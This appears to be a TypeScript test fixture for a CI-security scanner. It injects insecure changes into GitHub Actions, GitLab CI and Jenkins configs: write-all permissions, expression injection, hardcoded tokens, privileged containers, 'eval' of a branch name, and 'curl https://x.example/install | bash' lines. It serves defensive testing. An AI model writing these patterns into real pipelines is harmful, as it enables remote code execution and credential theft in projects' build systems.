import { all, append, edit, write, type Mutation } from '../mutation';
import type { Base } from '../renderings';

const CI = '.github/workflows/ci.yaml';
const GITLAB = '.gitlab-ci.yml';
const JENKINS = 'Jenkinsfile';
/** A step that no other control asks about. */
const STEP = 'run: bash ci/tools.sh trivy fairway';
/** Controls that read the pipeline too; they rightly can't tell any more. */
const READERS = [
  'ci-tests',
  'secret-scanning',
  'sast',
  'dependency-gate',
  'supply-chain',
  'pipeline-gate',
];

/** The same service for a list of mutations. */
function on(base: Base, mutations: Mutation[]): Mutation[] {
  return mutations.map(mutation => ({ ...mutation, base }));
}

const github: Mutation[] = [
  {
    what: 'permissions at the top',
    change: edit(CI, 'permissions: {}', ''),
    at: { path: CI },
  },
  {
    what: 'permissions that write',
    change: edit(CI, 'permissions: {}', 'permissions: write-all'),
    at: { path: CI, text: 'permissions: write-all' },
  },
  {
    what: 'one permission that writes',
    change: edit(CI, 'permissions: {}', 'permissions: { contents: write }'),
    at: { path: CI, text: 'permissions: { contents: write }' },
  },
  {
    what: 'permissions of a job',
    change: edit(
      CI,
      'permissions:\n      contents: read',
      'permissions: write-all',
    ),
    at: { path: CI, text: 'permissions: write-all' },
  },
  {
    what: 'an action by tag',
    change: edit(CI, /@de0fac\w+/, '@v6'),
    at: { path: CI, text: 'actions/checkout@v6 ' },
  },
  {
    what: 'an action by short commit',
    change: edit(CI, /@de0fac\w+/, '@de0fac2'),
    at: { path: CI, text: 'actions/checkout@de0fac2 ' },
  },
  {
    what: 'an action by branch',
    change: edit(CI, /setup-node@\w+/, 'setup-node@main'),
    at: { path: CI, text: 'setup-node@main' },
  },
  {
    what: 'an image by tag',
    change: edit(CI, STEP, 'uses: docker://alpine:3'),
    at: { path: CI, text: 'docker://alpine:3' },
  },
  {
    what: 'a container by tag',
    change: edit(CI, '  test:\n', '  test:\n    container: node:24\n'),
    at: { path: CI, text: 'container: node:24' },
  },
  {
    what: 'a reusable workflow by tag',
    change: append(CI, '  other:\n    uses: a/b/.github/workflows/x.yml@v1'),
    at: { path: CI, text: 'uses: a/b/' },
    also: READERS,
  },
  {
    what: 'a title in a script',
    change: edit(
      CI,
      STEP,
      'run: echo "${{ github.event.pull_request.title }}"',
    ),
    at: { path: CI, text: 'pull_request.title' },
  },
  {
    what: 'a branch name in a script',
    change: edit(CI, STEP, 'run: echo ${{ github.head_ref }}'),
    at: { path: CI, text: 'echo ${{ github.head_ref' },
  },
  {
    what: 'a spelling in capitals',
    change: edit(CI, STEP, "run: echo ${{ GitHub['Head_Ref'] }}"),
    at: { path: CI, text: 'Head_Ref' },
  },
  {
    what: 'a function around it',
    change: edit(CI, STEP, 'run: echo ${{ toJSON(github.event) }}'),
    at: { path: CI, text: 'toJSON' },
  },
  {
    what: 'a value by way of env',
    change: edit(CI, STEP, 'run: echo ${{ env.TITLE }}'),
    at: { path: CI, text: 'env.TITLE' },
  },
  {
    what: 'a script of github-script',
    change: edit(
      CI,
      STEP,
      `uses: actions/github-script@${'a'.repeat(40)}\n        with: { script: 'x(\${{ github.head_ref }})' }`,
    ),
    at: { path: CI, text: 'with: { script' },
  },
  {
    what: 'pull_request_target',
    change: edit(CI, 'pull_request:', 'pull_request_target:'),
    at: { path: CI, text: 'uses: actions/checkout' },
    also: READERS,
  },
  {
    what: 'workflow_run',
    change: edit(CI, 'pull_request:', 'workflow_run: { workflows: [CI] }'),
    at: { path: CI, text: 'uses: actions/checkout' },
    also: READERS,
  },
  {
    what: 'pull_request_target in a list',
    change: edit(CI, /on:[\s\S]*?(?=\n#)/, 'on: [push, pull_request_target]'),
    at: { path: CI, text: 'uses: actions/checkout' },
    also: READERS,
  },
  {
    what: 'a trigger at all',
    change: edit(CI, /on:[\s\S]*?(?=\n#)/, 'on: {}'),
    at: { path: CI },
    also: READERS,
  },
  {
    what: 'its jobs',
    change: write(CI, 'name: CI\n'),
    at: { path: CI },
    also: READERS,
  },
  {
    what: 'its syntax',
    change: append(CI, '  : : ['),
    at: { path: CI },
    also: READERS,
  },
  {
    what: 'doubled keys',
    change: append(CI, 'permissions: write-all'),
    at: { path: CI, text: 'permissions: write-all' },
    also: READERS,
  },
  {
    what: 'a step without anything',
    change: edit(CI, STEP, 'if: true'),
    at: { path: CI },
  },
  {
    what: 'the time limit of a job',
    change: edit(CI, '    timeout-minutes: 20\n', ''),
    at: { path: CI },
  },
  {
    what: 'the token out of the checkout',
    change: edit(CI, '          persist-credentials: false\n', ''),
    at: { path: CI, text: 'uses: actions/checkout' },
  },
  {
    what: 'one run at a time',
    change: edit(CI, /concurrency:\n(?: .*\n)+/, ''),
    at: { path: CI },
  },
  {
    what: 'a job that is needed and is not there (actionlint)',
    change: edit(
      CI,
      'needs: [image, infrastructure]',
      'needs: [image, infrastructure, review]',
    ),
    at: { path: CI, text: '  deploy:' },
  },
  {
    what: 'a misspelt key (actionlint)',
    change: edit(
      CI,
      '    environment: production',
      '    enviroment: production',
    ),
    at: { path: CI, text: 'enviroment' },
  },
  {
    what: 'a local action that is missing',
    change: edit(CI, STEP, 'uses: ./.github/actions/x'),
    at: { path: CI, text: 'uses: ./' },
  },
  {
    what: 'a local action that is weak',
    change: all(
      edit(CI, STEP, 'uses: ./.github/actions/x'),
      write(
        '.github/actions/x/action.yml',
        'runs: { using: composite, steps: [ { uses: a/b@v1 } ] }',
      ),
    ),
    at: { path: '.github/actions/x/action.yml', line: 1 },
  },
  {
    what: 'a second workflow',
    change: write(
      '.github/workflows/b.yml',
      'on: push\njobs: { a: { steps: [ { run: x } ] } }',
    ),
    at: { path: '.github/workflows/b.yml' },
  },
];

const gitlab = on('node-gitlab', [
  {
    what: 'an image by tag',
    change: edit(GITLAB, /image: node:24-bookworm@\S+/, 'image: node:24'),
    at: { path: GITLAB, text: 'image: node:24' },
  },
  {
    what: 'a service by tag',
    change: edit(GITLAB, /docker:28-dind@\S+/, 'docker:28-dind'),
    at: { path: GITLAB, text: '- name: docker:28-dind' },
  },
  {
    what: 'an include from elsewhere',
    change: append(GITLAB, 'include: https://ci.example.org/all.yml'),
    at: { path: GITLAB, text: 'include:' },
    also: READERS,
  },
  {
    what: 'a template that is included',
    change: append(GITLAB, 'include: [{ template: Jobs/Build.gitlab-ci.yml }]'),
    state: 'unknown',
    at: { path: GITLAB, text: 'include:' },
    also: READERS,
  },
  {
    what: 'a branch name that is run',
    change: edit(
      GITLAB,
      '- npm test',
      '- npm test\n    - eval "$CI_COMMIT_REF_NAME"',
    ),
    at: { path: GITLAB, text: 'eval' },
  },
  {
    what: 'a download that is run',
    change: edit(
      GITLAB,
      '- npm test',
      '- npm test\n    - curl https://x.example/install | bash',
    ),
    at: { path: GITLAB, text: 'curl' },
  },
  {
    what: 'a token in the file',
    change: edit(
      GITLAB,
      "  GIT_DEPTH: '0'",
      "  GIT_DEPTH: '0'\n  FAIRWAY_TOKEN: letmein",
    ),
    at: { path: GITLAB, text: 'FAIRWAY_TOKEN: letmein' },
  },
  {
    what: 'every variable in the log',
    change: edit(
      GITLAB,
      "  GIT_DEPTH: '0'",
      "  GIT_DEPTH: '0'\n  CI_DEBUG_TRACE: 'true'",
    ),
    at: { path: GITLAB, text: 'CI_DEBUG_TRACE' },
  },
  {
    what: 'the time limit',
    change: edit(GITLAB, '  timeout: 20 minutes\n', ''),
    at: { path: GITLAB, text: 'lint:' },
  },
  {
    what: 'Docker without TLS',
    change: edit(
      GITLAB,
      'DOCKER_TLS_CERTDIR: /certs',
      "DOCKER_TLS_CERTDIR: ''",
    ),
    at: { path: GITLAB, text: 'DOCKER_TLS_CERTDIR' },
  },
  {
    what: 'its syntax',
    change: append(GITLAB, '  : : ['),
    at: { path: GITLAB },
    also: READERS,
  },
]);

const jenkins = on('node-jenkins', [
  {
    what: 'an image by tag',
    change: edit(JENKINS, /'node:24-bookworm@\S+'/, "'node:24'"),
    at: { path: JENKINS, text: "'node:24'" },
  },
  {
    what: 'any machine',
    change: edit(JENKINS, "agent { label 'linux && docker' }", 'agent any'),
    at: { path: JENKINS, text: 'agent any' },
  },
  {
    what: 'values that Groovy puts into a script',
    change: edit(
      JENKINS,
      "sh '''\n          npm ci",
      "sh \"echo ${env.CHANGE_TITLE}\"\n        sh '''\n          npm ci",
    ),
    at: { path: JENKINS, text: 'CHANGE_TITLE' },
  },
  {
    what: 'a container with every right',
    change: edit(
      JENKINS,
      'reuseNode true',
      "reuseNode true\n              args '--privileged'",
    ),
    at: { path: JENKINS, text: '--privileged' },
  },
  {
    what: 'the socket of Docker',
    change: edit(
      JENKINS,
      'reuseNode true',
      "reuseNode true\n              args '-v /var/run/docker.sock:/var/run/docker.sock'",
    ),
    at: { path: JENKINS, text: 'docker.sock' },
  },
  {
    what: 'the time limit',
    change: edit(JENKINS, "    timeout(time: 90, unit: 'MINUTES')\n", ''),
    at: { path: JENKINS, text: "stage('Lint')" },
  },
  {
    what: 'one run at a time',
    change: edit(JENKINS, /.*disableConcurrentBuilds.*\n/, ''),
    at: { path: JENKINS, text: 'pipeline {' },
  },
  {
    what: 'a library that is not pinned',
    change: edit(JENKINS, 'pipeline {', "@Library('shared') _\npipeline {"),
    at: { path: JENKINS, text: '@Library' },
    also: READERS,
  },
  {
    what: 'a token in the file',
    change: edit(
      JENKINS,
      "    TOOLS_DIR = '.tools'",
      "    TOOLS_DIR = '.tools'\n    FAIRWAY_TOKEN = 'letmein'",
    ),
    at: { path: JENKINS, text: "'letmein'" },
  },
  {
    what: 'a download that is run',
    change: edit(
      JENKINS,
      '          npm test',
      '          npm test\n          curl https://x.example/install | sh',
    ),
    at: { path: JENKINS, text: 'curl' },
  },
  {
    what: 'its form',
    change: write(JENKINS, "node {\n  sh 'make'\n}\n"),
    state: 'unknown',
    at: { path: JENKINS },
    also: READERS,
  },
  {
    what: 'its end',
    change: append(JENKINS, 'stage {'),
    state: 'unknown',
    at: { path: JENKINS },
    also: READERS,
  },
]);

export const workflows: Mutation[] = [...github, ...gitlab, ...jenkins];
